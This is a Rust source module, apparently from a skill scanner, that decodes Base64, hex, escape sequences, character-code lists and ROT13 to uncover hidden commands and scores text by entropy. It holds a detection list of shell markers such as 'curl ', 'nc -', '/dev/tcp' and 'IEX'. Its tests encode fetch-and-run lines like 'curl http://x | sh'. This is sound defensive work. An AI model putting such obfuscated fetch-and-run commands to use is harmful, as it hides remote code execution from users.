//! Decodes hidden text: Base64, hex, escapes, character codes, ROT13.

use base64::{
    Engine as _, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use savoir_skill::Span;

const LENIENT_BASE64: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD_BASE64: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT_BASE64);
const URL_SAFE_BASE64: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT_BASE64);

/// Minimum length of an encoded run: `curl x|sh` has sixteen characters in Base64.
const MIN_ENCODED_BYTES: usize = 16;

/// Minimum length of a line of a run that continues on the next line.
const MIN_WRAPPED_LINE_BYTES: usize = 40;

/// Decodes Base64, if the result is text.
pub(super) fn decode_base64(text: &str) -> Option<String> {
    bytes_to_readable_text(decode_base64_bytes(text)?)
}

/// Decodes Base64 to bytes, ignoring blanks.
pub(super) fn decode_base64_bytes(text: &str) -> Option<Vec<u8>> {
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    STANDARD_BASE64.decode(&compact).or_else(|_| URL_SAFE_BASE64.decode(&compact)).ok()
}

/// Decodes hexadecimal digits, if the result is text.
pub(super) fn decode_hex(text: &str) -> Option<String> {
    let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
    if digits.len() < 8 || !digits.len().is_multiple_of(2) {
        return None;
    }
    let value = |byte: u8| char::from(byte).to_digit(16);
    let pairs = digits.chunks_exact(2);
    let bytes: Option<Vec<u8>> =
        pairs.map(|pair| Some((value(pair[0])? * 16 + value(pair[1])?) as u8)).collect();
    bytes_to_readable_text(bytes?)
}

/// Converts bytes to text if nearly all of it is readable; also UTF-16, which PowerShell uses.
fn bytes_to_readable_text(bytes: Vec<u8>) -> Option<String> {
    if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0) {
        let units: Vec<u16> =
            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        return require_readable(String::from_utf16(&units).ok()?);
    }
    require_readable(String::from_utf8(bytes).ok()?)
}

fn require_readable(text: String) -> Option<String> {
    let good = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    (text.len() >= 4 && text.chars().all(good)).then_some(text)
}

/// Rotates every letter by thirteen places.
pub(super) fn rot13(text: &str) -> String {
    let turn = |c: char| match c {
        'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
        'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
        _ => c,
    };
    text.chars().map(turn).collect()
}

/// Replaces `\x41`, `\u0041` and `\101` by their characters.
pub(super) fn decode_escapes(text: &str) -> String {
    let mut result = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\\') {
        result.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        let (kind, digits, radix) = match rest.as_bytes().first() {
            Some(b'x') => (1, 2, 16),
            Some(b'u') => (1, 4, 16),
            Some(b'0'..=b'7') => (0, 3, 8),
            _ => (0, 0, 0_u8),
        };
        // `\66` has fewer octal digits than `\142`.
        let is_octal = |byte: &&u8| matches!(byte, b'0'..=b'7');
        let octal = rest.bytes().take(digits).collect::<Vec<_>>();
        let octal = octal.iter().take_while(is_octal).count();
        let digits = if radix == 8 { octal } else { digits };
        let number = rest.get(kind..kind + digits).filter(|number| !number.is_empty());
        let code = number.and_then(|number| u32::from_str_radix(number, radix.into()).ok());
        if let Some(c) = code.and_then(char::from_u32) {
            result.push(c);
            rest = &rest[kind + digits..];
        } else {
            let c = rest.chars().next();
            result.push(match c {
                Some('n') => '\n',
                Some('t') => '\t',
                Some('r') => '\r',
                Some(c) => c,
                None => '\\',
            });
            rest = &rest[c.map_or(0, char::len_utf8)..];
        }
    }
    result + rest
}

/// The characters of both Base64 alphabets, which include the hexadecimal digits.
const IS_BASE64_BYTE: [bool; 256] = {
    let mut run = [false; 256];
    let mut byte = 0_u8;
    while byte < 128 {
        run[byte as usize] =
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
        byte += 1;
    }
    run
};

/// Returns encoded runs that decode to text: the text, the encoding and the position.
/// Nothing limits a run: the texts of a skill are limited before, and decoding makes them shorter.
pub(super) fn find_encoded_runs(text: &str) -> Vec<(String, &'static str, Span)> {
    let is_run = |byte: u8| IS_BASE64_BYTE[usize::from(byte)];
    let bytes = text.as_bytes();
    let (mut found, mut at) = (Vec::new(), 0);
    while at < bytes.len() {
        if !is_run(bytes[at]) {
            at += 1;
            continue;
        }
        let mut length = bytes[at..].iter().take_while(|byte| is_run(**byte)).count();
        // Long runs are wrapped: a full line continues on the next line.
        let mut line = length;
        while line >= MIN_WRAPPED_LINE_BYTES
            && bytes.get(at + length) == Some(&b'\n')
            && bytes.get(at + length + 1).is_some_and(|byte| is_run(*byte) && *byte != b'-')
        {
            line = bytes[at + length + 1..].iter().take_while(|byte| is_run(**byte)).count();
            length += 1 + line;
        }
        let span = Span::new(at, at + length);
        at += length;
        if length < MIN_ENCODED_BYTES {
            continue;
        }
        let run = span.slice(text);
        if let Some(inner) = decode_hex(run) {
            found.push((inner, "hexadecimal digits", span));
        } else if looks_encoded(run)
            && let Some(inner) = decode_base64(run)
        {
            found.push((inner, "Base64", span));
        }
    }
    found.extend(find_escaped_letters(text));
    found
}

/// Finds letters that are written as escapes, with or without blanks: `\u0063\u0075 \u0072`.
fn find_escaped_letters(text: &str) -> Vec<(String, &'static str, Span)> {
    const MIN_ESCAPES: usize = 8;
    let mut found = Vec::new();
    let (mut said, mut count, mut start, mut at) = (String::new(), 0, 0, 0);
    while at < text.len() {
        let rest = &text[at..];
        let code = rest.strip_prefix("\\u").and_then(|code| code.get(..4));
        let letter = code
            .and_then(|code| u32::from_str_radix(code, 16).ok())
            .and_then(char::from_u32)
            .filter(|c| c.is_ascii_graphic() || *c == ' ');
        match letter {
            Some(letter) => {
                if count == 0 {
                    start = at;
                }
                said.push(letter);
                count += 1;
                at += 6;
            }
            None if count > 0 && rest.starts_with(' ') => {
                said.push(' ');
                at += 1;
            }
            None => {
                if count >= MIN_ESCAPES {
                    let span = Span::new(start, at);
                    found.push((std::mem::take(&mut said), "escaped letters", span));
                }
                said.clear();
                count = 0;
                // Continue at the next backslash.
                let next = rest.char_indices().skip(1).find(|(_, c)| *c == '\\');
                at = next.map_or(text.len(), |(next, _)| at + next);
            }
        }
    }
    if count >= MIN_ESCAPES {
        found.push((said, "escaped letters", Span::new(start, text.len())));
    }
    found
}

/// Minimum number of consecutive numbers that are read as character codes.
const MIN_NUMBERS: usize = 8;

/// Substrings that a text made from numbers must contain to be reported.
const COMMAND_MARKERS: [&str; 18] = [
    "curl ", "wget ", "http://", "https://", "/bin/", "|sh", "| sh", "|bash", "| bash",
    "powershell", "require(", "import ", "eval(", "exec(", "nc -", "/dev/tcp", "child_process",
    "IEX",
];

/// Returns lists of character codes in a text that are commands or addresses.
pub(super) fn find_character_codes(text: &str) -> Vec<(String, &'static str, Span)> {
    let bytes = text.as_bytes();
    let (mut found, mut at) = (Vec::new(), 0);
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() || at > 0 && bytes[at - 1].is_ascii_alphanumeric() {
            at += 1;
            continue;
        }
        let start = at;
        let mut letters = String::new();
        while let Some((code, end)) = parse_number(bytes, at) {
            let Some(letter) = char::from_u32(code).filter(char::is_ascii) else { break };
            letters.push(letter);
            at = end;
            let gap = bytes[end..].iter().take_while(|byte| b", \t\r\n;".contains(byte)).count();
            if gap == 0 || !bytes.get(end + gap).is_some_and(u8::is_ascii_digit) {
                break;
            }
            at = end + gap;
        }
        at = at.max(start + 1);
        // A program can also read the codes in reverse.
        let turned: String = letters.chars().rev().collect();
        for letters in [letters, turned] {
            if letters.len() >= MIN_NUMBERS
                && COMMAND_MARKERS.iter().any(|mark| letters.contains(mark))
            {
                found.push((letters, "a list of character codes", Span::new(start, at)));
            }
        }
    }
    found
}

/// Parses a number at a position; returns its value and its end.
fn parse_number(bytes: &[u8], at: usize) -> Option<(u32, usize)> {
    let rest = &bytes[at..];
    let hex = rest.starts_with(b"0x") || rest.starts_with(b"0X");
    let (skip, radix) = if hex { (2, 16) } else { (0, 10) };
    let digits = rest[skip..].iter().take(4).take_while(|byte| char::from(**byte).is_digit(radix));
    let count = digits.count();
    let text = std::str::from_utf8(&rest[skip..skip + count]).ok()?;
    Some((u32::from_str_radix(text, radix).ok()?, at + skip + count))
}

/// Whether a run looks like Base64; paths and long words use the same characters.
fn looks_encoded(run: &str) -> bool {
    let upper = run.bytes().any(|byte| byte.is_ascii_uppercase());
    let lower = run.bytes().any(|byte| byte.is_ascii_lowercase());
    upper && lower && run.len() % 4 != 1 && !run.contains("//")
}

/// Entropy in bits per byte: text has four to five, Base64 about six, packed code nearly eight.
pub(super) fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0_u32; 256];
    for byte in bytes {
        counts[usize::from(*byte)] += 1;
    }
    let total = f64::from(u32::try_from(bytes.len()).unwrap_or(u32::MAX)).max(1.0);
    let share = |count: &u32| f64::from(*count) / total;
    counts.iter().filter(|count| **count > 0).map(share).map(|p| -p * p.log2()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodings_are_decoded() {
        assert_eq!(
            decode_base64("Y3VybCBodHRwOi8veCB8IHNo").as_deref(),
            Some("curl http://x | sh")
        );
        assert_eq!(decode_base64("aQBlAHgAIAAxAA==").as_deref(), Some("iex 1"));
        assert_eq!(decode_hex("6375726c20782e79").as_deref(), Some("curl x.y"));
        assert_eq!(decode_base64("not base64!"), None);
        assert_eq!(decode_escapes("\\x63\\u0075r\\154 a"), "curl a");
    }

    #[test]
    fn encoded_runs_are_found_and_words_are_not() {
        let found = find_encoded_runs("run `Y3VybCBodHRwOi8veCB8IHNo` now");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].0, "curl http://x | sh");
        let words = "internationalization/of/the/things and CamelCaseNamesOfClasses";
        assert!(find_encoded_runs(words).is_empty());
    }

    #[test]
    fn character_codes_are_decoded() {
        for text in [
            "const L = [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120];",
            "bytes((0x63,0x75,0x72,0x6c,0x20,0x78,0x7c,0x73,0x68))",
            "[104,115,124,120,32,108,114,117,99]",
        ] {
            assert!(
                find_character_codes(text).iter().any(|(text, _, _)| text.starts_with("curl ")),
                "{text}"
            );
        }
        assert!(
            find_character_codes("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 99, 100, 101, 102, 103")
                .is_empty()
        );
    }

    #[test]
    fn entropy_of_words_and_noise() {
        assert!(entropy(b"the quick brown fox jumps over the lazy dog") < 4.5);
        assert!(entropy(&(0..=255).collect::<Vec<u8>>()) > 7.9);
    }
}
